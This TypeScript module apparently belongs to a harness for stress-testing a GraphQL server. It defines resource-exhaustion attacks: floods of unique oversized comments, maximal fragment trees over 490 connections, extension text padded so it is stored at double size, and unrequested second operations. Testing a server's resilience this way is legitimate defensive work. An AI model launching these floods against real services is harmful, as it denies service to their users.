import { type Attack, graphql, longTimeline, repeat } from '../attack.ts'
import { flood } from '../flood.ts'

const comment = 'x'.repeat(250 * 1024)

/** As much as fits into what Node.js takes of a request line. */
const commentOfPath = 'x'.repeat(14_000)

/** Just below the longest document that is cached. */
const cachedComment = 'x'.repeat(16_000)

/** Small to run, and large to keep: a second operation that nobody asks for. */
const twoOperations = (nth: number) =>
  `query A { viewer { u${nth}: uuid } } query B { ${repeat(45, (index) => `p${nth}_${index}: publicTimeline(first: 1) { nodes { uuid content author { username displayName } } }`)} }`

/** Attacks that fill what is kept of documents. */
export const cacheAttacks: readonly Attack[] = [
  {
    row: '1',
    name: 'comments',
    about: 'unique comments of 250 KiB, without a token',
    prepare: (target) => ({ strike: flood(target, 8, (nth) => graphql(`{__typename}#${nth}${comment}`)) }),
  },
  {
    row: '1',
    name: 'comments-get',
    about: 'unique comments of 14 KB by GET, without a token',
    prepare: (target) => ({
      strike: flood(target, 8, (nth) => {
        const query = encodeURIComponent(`{__typename}#${nth}${commentOfPath}`)
        return { method: 'GET', path: `/graphql?query=${query}`, headers: {}, body: null }
      }),
    }),
  },
  {
    row: '1',
    name: 'comments-token',
    about: 'unique comments of 16 KB, with a token',
    prepare: (target) => ({
      strike: flood(target, 8, (nth) => graphql(`{viewer{uuid}}#${nth}${cachedComment}`, target.token)),
    }),
  },
  {
    row: '-',
    name: 'large-trees',
    about:
      '490 connections send documents with as many tokens as are permitted, each document different, without a token',
    prepare: (target) => ({
      strike: flood(target, 490, (nth) =>
        graphql(`{ u${nth}: user(by: { uuid: "${target.star}" }) { ${'... { uuid } '.repeat(485)} } }`),
      ),
    }),
  },
  {
    row: '-',
    name: 'waiting-bodies',
    about:
      '490 connections of an account read long timelines, each with a text of 250 KiB in `extensions` that is kept as 500 KiB',
    prepare: (target) => {
      // One character beyond Latin-1 lets JavaScript keep two bytes for each.
      const request = graphql(longTimeline, target.token, { extensions: { text: `…${comment}` } })
      return { strike: flood(target, 490, () => request) }
    },
  },
  {
    row: '6',
    name: 'two-operations',
    about: 'documents with two operations, of which the small one runs',
    prepare: (target) => ({
      strike: flood(target, 8, (nth) => graphql(twoOperations(nth), target.token, { operationName: 'A' })),
    }),
  },
]
